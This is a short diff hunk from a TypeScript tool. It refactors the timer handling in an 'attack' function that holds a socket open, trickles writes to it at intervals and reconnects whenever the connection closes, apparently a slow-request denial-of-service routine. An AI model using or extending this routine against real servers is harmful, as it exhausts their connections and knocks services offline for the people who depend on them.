@@ -27,10 +27,10 @@ function attack(begin: string, trickle: string | undefined): void {
   // Without a reader nothing is taken from the kernel.
   socket.pause();
   socket.write(begin);
-  const timer = trickle && setInterval(() => socket.write(trickle), TRICKLE_MS);
+  const timer = trickle === undefined ? undefined : setInterval(() => socket.write(trickle), TRICKLE_MS);
   socket.on('error', () => undefined);
   socket.on('close', () => {
-    clearInterval(timer as NodeJS.Timeout);
+    clearInterval(timer);
     setTimeout(() => attack(begin, trickle), 1_000);
   });
 }
